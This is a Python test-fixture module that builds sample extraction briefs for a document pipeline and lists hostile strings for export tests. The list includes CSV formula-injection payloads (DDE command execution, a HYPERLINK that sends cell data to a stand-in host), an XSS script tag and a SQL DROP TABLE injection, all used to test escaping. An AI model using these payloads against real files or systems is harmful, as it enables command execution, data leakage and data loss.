"""Extracted briefs made by hand: a record of every kind, with any words in every text."""

from __future__ import annotations

from pipeline.records import (
    Anchor,
    Citation,
    Claim,
    Clause,
    Entity,
    EntityAttributes,
    Figure,
    Header,
    Issue,
    LawValue,
    Mention,
    MoneyValue,
    Note,
    PercentValue,
    Qualifiers,
    Record,
    Relation,
    SanctionValue,
    Section,
    Sentence,
    Shelves,
    Source,
    Span,
    Table,
)
from pipeline.store import Extraction

HOSTILE = (
    # OWASP's list for CSV: each begins a formula in some spreadsheet.
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '=1+2";=1+2',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    # Programs that trim first, or pass over what they cannot show.
    "  =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    # The guard itself, alone and before what it guards.
    "'",
    "'=1+1",
    "''",
    # HTML and XML.
    "<script>alert(1)</script>",
    "]]><!-- & &amp; -->",
    # What XML 1.0 and UTF-8 cannot hold.
    "bell\x07 null\x00 escape\x1b",
    "lone \ud800 surrogate",
    "\ufffe\uffff",
    # CSV, JSON, SQL and LaTeX.
    'a "quoted", and\r\nbroken; piped | line',
    "'); DROP TABLE claims;--",
    r"100% & #1_x $5 ~ ^ \ back {a}",
    "{",
    "}}",
    "\\",
    "@article{x,",
    # Scripts from right to left, with an override, and beyond the basic plane.
    "עברית ثم العربية",
    "\u202egnp.exe",
    "🙂👩‍👩‍👧 𝔘",
    # More than a spreadsheet's cell holds.
    "x" * 40_000,
    " ",
)


def brief(name: str = "alpha", words: str = "words") -> Extraction:
    """A brief with records of all kinds; `words` stand wherever a text may stand.

    Two relations have the same ends. The first claim is cited twice, by a note and by a link, and
    the second not at all.
    """

    def at(kind: str) -> dict[str, object]:
        return {
            "id": f"{kind}-{name}",
            "brief": name,
            "start": 1,
            "end": 9,
            "quote": words,
            "page": 2,
            "boxes": ((2, 10.0, 20.5, 30.0, 40.0), (3, 1.0, 2.0, 3.0, 4.0)),
            "rule": words,
            "score": 0.75,
        }

    def to(kind: str) -> str:
        return f"{kind}-{name}"

    records: list[Record] = [
        Section.model_validate(at("section") | {"level": 1, "title": words}),
        Note.model_validate(
            at("note") | {"label": "7", "note_type": "footnote", "anchors": (to("anchor"),)}
        ),
        Anchor.model_validate(at("anchor") | {"label": "7", "note": to("note")}),
        Citation.model_validate(
            at("full")
            | {
                "note": None,
                "form": "full",
                "citation_kind": "report",
                "authors": ("Ann Lee", words),
                "title": words,
                "date": "2024-05",
                "url": "https://example.org/a_b?c=%20",
                "accessed": "3 May 2025",
                "source": to("source"),
            }
        ),
        Citation.model_validate(
            at("ibid")
            | {
                "note": to("note"),
                "form": "ibid",
                "citation_kind": "report",
                "resolves_to": to("full"),
                "source": to("source"),
            }
        ),
        Source.model_validate(
            at("source")
            | {
                "citation_kind": "report",
                "authors": ("Ann Lee", words),
                "title": words,
                "container": words,
                "date": "2024-05",
                "url": "https://example.org/a_b?c=%20",
                "identifier": words,
                "citations": (to("full"), to("ibid")),
            }
        ),
        Table.model_validate(
            at("table") | {"caption": words, "cells": ((words, None), (None, "5"))}
        ),
        Figure.model_validate(at("figure") | {"texts": (words, "axis")}),
        Sentence.model_validate(
            at("sentence") | {"section": to("section"), "paragraph": 1, "anchors": (to("anchor"),)}
        ),
        *(
            Mention.model_validate(
                at(kind) | {"type": kind, "entity": to(f"{kind}-entity"), "value": value}
            )
            for kind, value in (
                ("company", None),
                ("place", None),
                ("money", MoneyValue(amount=1_500_000, currency="EUR", qualifier="about")),
                ("percent", PercentValue(number=None, low=2.5, high=3)),
                ("sanction", SanctionValue(sanction_type="asset_freeze", list=words)),
                ("law", LawValue(jurisdiction="EU", year=2024, number="12/2024")),
                ("date", "2024-05-03"),
            )
        ),
        *(
            Entity.model_validate(
                at(f"{kind}-entity")
                | {
                    "type": kind,
                    "name": f"{words} {kind}" if kind == "place" else words,
                    "aliases": (words, "other"),
                    "mentions": (to(kind),),
                    "attributes": attributes,
                    "kb": "QQ" if kind == "place" else None,
                }
            )
            for kind, attributes in (
                ("company", EntityAttributes(description=words)),
                ("place", EntityAttributes(country="QQ")),
                ("money", EntityAttributes(value=MoneyValue(amount=1_500_000, currency="EUR"))),
                ("percent", EntityAttributes()),
                ("sanction", EntityAttributes()),
                ("law", EntityAttributes()),
                ("date", EntityAttributes(value="2024-05-03")),
            )
        ),
        *(
            Relation.model_validate(
                at(identifier)
                | {
                    "subject": to("company-entity"),
                    "predicate": "sanctioned_by",
                    "object": to("place-entity"),
                    "status": status,
                    "qualifiers": qualifiers,
                    "sentence": to("sentence"),
                    "citations": citations,
                }
            )
            for identifier, status, qualifiers, citations in (
                (
                    "relation",
                    "factual",
                    Qualifiers(date="2024-05-03", reason=words),
                    (to("ibid"), to("full")),
                ),
                ("further", "ended", Qualifiers(), ()),
            )
        ),
        Claim.model_validate(
            at("claim")
            | {
                "sentence": to("sentence"),
                "claim_type": "event_state",
                "attribution_source": Span(start=1, end=4, quote=words),
                "check_worthiness": 0.5,
                "citation_support": "cited_direct",
                "citations": (to("ibid"), to("full")),
                "entities": (to("company-entity"), to("place-entity")),
                "relations": (to("relation"),),
                "clauses": (Clause(start=1, end=4, quote=words, claim_type="causal"),),
                "review": "accept",
                "reviewers": ("Ann", "Bo"),
            }
        ),
        Claim.model_validate(
            at("bare")
            | {
                "sentence": to("sentence"),
                "claim_type": "quantity",
                "approximate": True,
                "citation_support": "uncited_expected",
            }
        ),
        Issue.model_validate(
            at("issue")
            | {"stage": "notes", "severity": "warning", "message": words, "candidates": (words,)}
        ),
    ]
    header = Header(
        id=name,
        brief=name,
        title=words,
        authors=(words, "Bo Roe"),
        file=f"{name}.pdf",
        sha256="0" * 64,
        pages=3,
        status="complete",
        text=words,
        shelves=Shelves(body=(0, 5), notes=(5, 7), furniture=(7, 9)),
        pipeline="test",
        models={"b": "2", "a": "1"},
    )
    return Extraction(header, tuple(records))


def empty(name: str = "empty") -> Extraction:
    """A brief in which nothing was found: no record, no title, no page."""
    header = Header(
        id=name, brief=name, file="e.txt", sha256="1" * 64, status="failed", pipeline="test"
    )
    return Extraction(header, ())


def changed(extraction: Extraction, which: str, /, **fields: object) -> Extraction:
    """The same brief with some fields of one record changed."""
    records = (
        record.model_copy(update=fields) if record.id == which else record
        for record in extraction.records
    )
    return Extraction(extraction.header, tuple(records))
